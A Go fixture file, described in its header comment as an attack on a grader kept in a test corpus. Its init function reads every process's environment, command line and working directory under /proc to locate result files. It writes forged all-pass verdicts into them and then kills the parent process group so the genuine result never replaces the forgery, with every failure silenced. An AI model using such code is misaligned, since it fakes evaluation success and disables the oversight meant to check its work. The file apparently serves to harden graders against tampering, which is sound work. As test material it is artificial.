// An attack on the grader (issue 14), kept in the fixture corpus: before
// main runs, write an all-pass module result wherever the module's result
// file may be, then kill the module (the parent's process group) so that
// nothing overwrites it. Every failure is silent.
package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
)

func init() { plant() }

func plant() {
	var results []string
	dirs := map[string]bool{"/srb/work/usage": true, "/srb/results": true}
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		var words []string
		if b, err := os.ReadFile(p + "/environ"); err == nil {
			for _, kv := range strings.Split(string(b), "\x00") {
				name, v, _ := strings.Cut(kv, "=")
				if name == "SRB_RESULT" {
					results = append(results, v)
				}
				words = append(words, v)
			}
		}
		if b, err := os.ReadFile(p + "/cmdline"); err == nil {
			words = append(words, strings.Split(string(b), "\x00")...)
		}
		if cwd, err := os.Readlink(p + "/cwd"); err == nil {
			words = append(words, cwd)
		}
		for _, w := range words {
			if strings.HasPrefix(w, "/") {
				dirs[filepath.Dir(w)] = true
			}
		}
	}
	for d := range dirs {
		results = append(results, filepath.Join(d, "result.json"), filepath.Join(d, "usage", "result.json"))
	}
	ids := []string{"one-argument", "two-arguments", "help", "inline-stdin"}
	var checks []map[string]any
	for _, id := range ids {
		for _, a := range []string{"stdout", "stderr", "exit"} {
			checks = append(checks, map[string]any{"id": id + "/" + a, "verdict": "pass", "summary": "matches State A"})
		}
	}
	out, _ := json.Marshal(map[string]any{"checks": checks})
	planted := false
	for _, r := range results {
		if os.WriteFile(r, out, 0o644) == nil {
			planted = true
		}
	}
	if !planted && os.Getenv("SRB_RESULT") == "" {
		return
	}
	// Kill the module (the parent's process group) so that its own
	// result never replaces the plant.
	if g, err := syscall.Getpgid(os.Getppid()); err == nil && g > 1 && g != syscall.Getpgrp() {
		syscall.Kill(-g, syscall.SIGKILL)
	}
}
